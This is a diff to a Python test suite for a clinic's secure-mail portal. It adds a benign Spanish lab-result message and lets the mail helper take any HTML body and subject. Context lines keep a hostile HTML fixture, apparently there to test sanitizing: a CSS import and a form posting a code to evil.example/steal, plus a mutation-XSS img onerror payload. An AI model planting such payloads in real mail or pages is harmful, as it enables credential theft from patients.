@@ -40,6 +40,9 @@ HTML = """<html><head><style>p { color: #222 } @import url(https://evil.example/
 <form action="https://evil.example/steal" method="post"><input name="code"><button>Send</button></form>
 <math><mtext><style><img src=x onerror="alert('mutation')"></style></mtext></math>
 <p>Keep taking your metformin as before, and write your readings into the diary.</p><p>With kind regards,<br>Nurse Okafor</p></body></html>"""
+# Without anything of that, for those who look at the pictures.
+CALM = """<p>Estimada señora Ortega:</p><p>Ya tenemos el resultado de su análisis de sangre: HbA1c 7.9 %.</p><p><img src="cid:chart" alt="A chart of your values" width="160"></p>
+<p>Siga tomando la metformina como hasta ahora y anote sus valores en el diario. Llámenos para pedir una cita.</p><p>Un cordial saludo,<br>Enfermera Okafor</p>"""
 # What the graders of header fields look at (their best grade needs all of it).
 HEADERS = {
     "strict-transport-security": r"max-age=(3153[6-9]\d{3}|[4-9]\d{7}|\d{9,})\b.*includeSubDomains",
@@ -75,18 +78,19 @@ class World:
         self.tls = ssl.create_default_context(cafile=site.ca.path)
 
     # ---- mail
-    def hand_in(self, rcpt, html=True):
+    def hand_in(self, rcpt, html=HTML, subject=SUBJECT):
         """A message with everything; the path of the link that the recipient gets."""
         before = len(self.portal.mails(rcpt))
         mail = email.message.EmailMessage(policy=email.policy.SMTP)
-        mail["From"], mail["To"], mail["Subject"], mail["Date"] = "Laboratory <results@clinic.test>", rcpt, SUBJECT, "Sun, 22 Nov 2026 10:41:00 +0000"
+        mail["From"], mail["To"], mail["Subject"], mail["Date"] = "Laboratory <results@clinic.test>", rcpt, subject, "Sun, 22 Nov 2026 10:41:00 +0000"
         mail["Message-ID"] = "<%f@clinic.test>" % time.time()
         mail.set_content(TEXT)
         if html:
-            mail.add_alternative(HTML, subtype="html")
+            mail.add_alternative(html, subtype="html")
             mail.get_payload()[1].add_related(png(240, 120), "image", "png", cid="<chart>")
             mail.add_attachment(PDF, "application", "pdf", filename="Laboratory report 2026-11-20.pdf")
-            mail.add_attachment(b"Nothing here.\n", "text", "plain", filename=HOSTILE)
+            if html is HTML:
+                mail.add_attachment(b"Nothing here.\n", "text", "plain", filename=HOSTILE)
         with lab.Client() as smtp:
             smtp.mail("results@clinic.test")
             smtp.rcpt(rcpt)
@@ -264,7 +268,7 @@ def replied(world, page):
 def phone(world):
     """A phone in the dark, in Spanish, without script."""
     tap, rcpt = world.tap, "rosa@plain.test"
-    link = world.hand_in(rcpt)
+    link = world.hand_in(rcpt, CALM, "Resultados de su análisis de sangre")
     notice(world, "es-notice", "es", "Riverside Clinic le ha enviado un mensaje seguro")
     page = world.page("phone", viewport={"width": 360, "height": 720}, colorScheme="dark", locale="es-MX", javaScriptEnabled=False, hasTouch=True)
     before = len(world.portal.mails(rcpt))
@@ -277,7 +281,7 @@ def phone(world):
     tap.ok("código" in world.portal.text(mail), "the code's mail too", world.portal.text(mail))
     page.fill("#code", world.portal.code(mail))
     page.follow("button.main")
-    world.look(page, "es-message", SUBJECT, judge=False)
+    world.look(page, "es-message", "Resultados de su análisis de sangre", judge=False)
     tap.ok("HbA1c 7.9 %" in page.frame("iframe.body"), "the message")
     got = page.save(".files li a >> nth=0")
     with open(got["path"], "rb") as file:
@@ -292,7 +296,7 @@ def phone(world):
     # The same screen for axe, which is a script.
     judged = world.page("phone-judged", viewport={"width": 360, "height": 720}, colorScheme="dark", locale="es-MX")
     world.enter(judged, link, rcpt, "es-dark", ("Un mensaje seguro le espera", "Confirme que es usted"))
-    world.look(judged, "es-dark-message", SUBJECT)
+    world.look(judged, "es-dark-message", "Resultados de su análisis de sangre")
     judged.follow(".actions a[href$='/reply']")
     world.look(judged, "es-dark-reply", "Su respuesta")
 
@@ -300,7 +304,7 @@ def phone(world):
 def keyboard(world):
     """Keys only, large letters, forced colours."""
     tap, rcpt = world.tap, "kim@plain.test"
-    link = world.hand_in(rcpt, html=False)
+    link = world.hand_in(rcpt, html=None)
     page = world.page("keyboard", viewport={"width": 640, "height": 720}, forcedColors="active", reducedMotion="reduce")
     seen = []
 
@@ -345,7 +349,7 @@ def errors(world):
             page.follow("button.main")
         bodies[name] = page.text()
 
-    recalled, expired, locked = (world.hand_in(rcpt, html=False) for rcpt in ("recalled@plain.test", "late@plain.test", "locked@plain.test"))
+    recalled, expired, locked = (world.hand_in(rcpt, html=None) for rcpt in ("recalled@plain.test", "late@plain.test", "locked@plain.test"))
     world.portal.ctl("recall", world.portal.id(recalled))
     world.portal.ctl("expire", world.portal.id(expired))
     gone("recalled", recalled)
